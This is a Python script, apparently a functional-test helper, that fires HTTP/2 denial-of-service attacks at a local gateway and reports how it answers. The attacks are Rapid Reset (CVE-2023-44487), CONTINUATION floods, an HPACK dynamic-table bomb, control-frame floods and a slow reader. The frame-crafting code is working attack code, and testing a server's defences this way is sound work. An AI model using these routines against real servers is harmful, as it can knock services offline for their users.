"""HTTP/2 attacks against the gateway, driven by the functional tests.

Usage: /usr/bin/python3 h2attacks.py SCENARIO PORT
Prints one JSON object: what the gateway answered ("goaway" error code, "status", counts).
Uses python-h2 for well-formed traffic and hyperframe/hpack for the frames h2 refuses to send.
"""
import json
import socket
import sys
import time

import h2.config
import h2.connection
import h2.events
import hpack
from hyperframe.frame import (ContinuationFrame, DataFrame, HeadersFrame, PingFrame, SettingsFrame,
                              WindowUpdateFrame)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
REQUEST = [(":method", "GET"), (":scheme", "http"), (":authority", "attack.test"), (":path", "/")]


def connect(port):
    sock = socket.create_connection(("127.0.0.1", port))
    sock.settimeout(15)
    sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    return sock


def h2_client(port):
    sock = connect(port)
    conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True, header_encoding="utf-8"))
    conn.initiate_connection()
    sock.sendall(conn.data_to_send())
    return sock, conn


def raw_client(port):
    sock = connect(port)
    sock.sendall(PREFACE + SettingsFrame(0).serialize())
    return sock


def send_quietly(sock, data):
    """Sends until the gateway closes; returns False once it has."""
    try:
        sock.sendall(data)
        return True
    except (BrokenPipeError, ConnectionResetError):
        return False


def read_goaway(sock, conn=None):
    """Reads until GOAWAY or close; returns the GOAWAY error code or None."""
    conn = conn or h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
    buffer = b""
    deadline = time.time() + 15
    while time.time() < deadline:
        try:
            data = sock.recv(65536)
        except (ConnectionResetError, socket.timeout):
            break
        if not data:
            break
        buffer += data
        # Walk the frames by hand: the gateway's frames after an attack may not fit h2's state machine.
        while len(buffer) >= 9:
            length = int.from_bytes(buffer[0:3], "big")
            if len(buffer) < 9 + length:
                break
            frame_type = buffer[3]
            payload = buffer[9:9 + length]
            buffer = buffer[9 + length:]
            if frame_type == 0x7:
                return int.from_bytes(payload[4:8], "big")
    return None


def rapid_reset(port):
    """CVE-2023-44487: open streams and reset them at once, as fast as possible."""
    sock, conn = h2_client(port)
    sent = 0
    stream_id = 1
    alive = True
    while alive and sent < 20000:
        batch = b""
        for _ in range(100):
            conn.send_headers(stream_id, REQUEST + [("x-attack", "rapid-reset")], end_stream=True)
            conn.reset_stream(stream_id)
            stream_id += 2
            sent += 1
        batch = conn.data_to_send()
        alive = send_quietly(sock, batch)
    return {"sent": sent, "goaway": read_goaway(sock)}


def continuation_flood(port, fragment_size):
    """CVE-2024-27316 family: a header block that never ends, in big or tiny CONTINUATION frames."""
    sock = raw_client(port)
    encoder = hpack.Encoder()
    block = encoder.encode(REQUEST)
    send_quietly(sock, HeadersFrame(1, block, flags=["END_STREAM"]).serialize())
    # Whole fields per fragment, so only the gateway's limits can stop it: a 105-byte literal without
    # indexing ("x-f: vvv..."), or the one-byte indexed ":method: GET".
    field = b"\x00\x03x-f\x64" + b"v" * 100
    fragment = field * (fragment_size // len(field)) if fragment_size > len(field) else b"\x82"
    frames = 0
    alive = True
    while alive and frames < 100000:
        alive = send_quietly(sock, ContinuationFrame(1, fragment).serialize())
        frames += 1
        if frames % 50 == 0:
            time.sleep(0.001)
    return {"frames": frames, "goaway": read_goaway(sock)}


def hpack_bomb(port):
    """A 4 KB field put in the dynamic table once, then referenced by its one-byte index 20,000 times."""
    sock = raw_client(port)
    encoder = hpack.Encoder()
    first = encoder.encode(REQUEST + [("x-bomb", "b" * 4000)])
    send_quietly(sock, HeadersFrame(1, first, flags=["END_HEADERS", "END_STREAM"]).serialize())
    # Index 62 is the newest dynamic entry: "x-bomb".
    # The request fields by hand (static indexes, :authority not indexed), so the table keeps x-bomb.
    authority = b"attack.test"
    bomb = b"\x82\x86\x84\x01" + bytes([len(authority)]) + authority + bytes([0x80 | 62]) * 20000
    frames = [HeadersFrame(3, bomb[:16000], flags=["END_STREAM"])]
    rest = bomb[16000:]
    while rest:
        chunk, rest = rest[:16000], rest[16000:]
        frames.append(ContinuationFrame(3, chunk, flags=["END_HEADERS"] if not rest else []))
    send_quietly(sock, b"".join(f.serialize() for f in frames))
    # Read the two answers with a real client state machine.
    conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
    statuses = {}
    buffer_deadline = time.time() + 15
    raw = b""
    goaway = None
    while len(statuses) < 2 and time.time() < buffer_deadline:
        data = sock.recv(65536)
        if not data:
            break
        raw += data
        while len(raw) >= 9:
            length = int.from_bytes(raw[0:3], "big")
            if len(raw) < 9 + length:
                break
            frame_type, stream = raw[3], int.from_bytes(raw[5:9], "big") & 0x7FFFFFFF
            payload = raw[9:9 + length]
            raw = raw[9 + length:]
            if frame_type == 0x1:
                fields = decoder.decode(payload)
                statuses[stream] = dict(fields)[":status"]
            if frame_type == 0x7:
                goaway = int.from_bytes(payload[4:8], "big")
        if goaway is not None:
            break
    return {"statuses": statuses, "goaway": goaway}


decoder = hpack.Decoder()


def flood(port, kind, count=20000):
    """Frames that cost work and carry no request, sent without reading any answer."""
    sock = raw_client(port)
    if kind == "settings":
        frame = SettingsFrame(0, settings={SettingsFrame.INITIAL_WINDOW_SIZE: 65535}).serialize()
    elif kind == "ping":
        frame = PingFrame(0, opaque_data=b"12345678").serialize()
    elif kind == "window-update":
        frame = WindowUpdateFrame(0, window_increment=1).serialize()
    elif kind == "empty-data":
        encoder = hpack.Encoder()
        post = [(":method", "POST"), (":scheme", "http"), (":authority", "attack.test"), (":path", "/slow")]
        send_quietly(sock, HeadersFrame(1, encoder.encode(post), flags=["END_HEADERS"]).serialize())
        frame = DataFrame(1, b"").serialize()
    else:
        raise ValueError(kind)
    sent = 0
    alive = True
    while alive and sent < count:
        alive = send_quietly(sock, frame * 100)
        sent += 100
    return {"sent": sent, "goaway": read_goaway(sock)}


def slow_reader(port):
    """A client that asks for a large body and never opens its window beyond 4 KB."""
    sock, conn = h2_client(port)
    conn.update_settings({h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: 4096})
    conn.send_headers(1, [(":method", "GET"), (":scheme", "http"), (":authority", "slow.test"), (":path", "/big")], end_stream=True)
    sock.sendall(conn.data_to_send())
    received = 0
    reset = None
    start = time.time()
    while time.time() - start < 15 and reset is None:
        data = sock.recv(65536)
        if not data:
            break
        for event in conn.receive_data(data):
            if isinstance(event, h2.events.DataReceived):
                received += len(event.data)
            elif isinstance(event, h2.events.StreamReset):
                reset = int(event.error_code)
        sock.sendall(conn.data_to_send())
    return {"received": received, "reset": reset, "seconds": round(time.time() - start, 1)}


def main():
    scenario, port = sys.argv[1], int(sys.argv[2])
    if scenario == "rapid-reset":
        result = rapid_reset(port)
    elif scenario == "continuation-flood-big":
        result = continuation_flood(port, 16000)
    elif scenario == "continuation-flood-tiny":
        result = continuation_flood(port, 1)
    elif scenario == "hpack-bomb":
        result = hpack_bomb(port)
    elif scenario.startswith("flood-"):
        result = flood(port, scenario[len("flood-"):])
    elif scenario == "slow-reader":
        result = slow_reader(port)
    else:
        raise SystemExit("unknown scenario " + scenario)
    print(json.dumps(result))


if __name__ == "__main__":
    main()
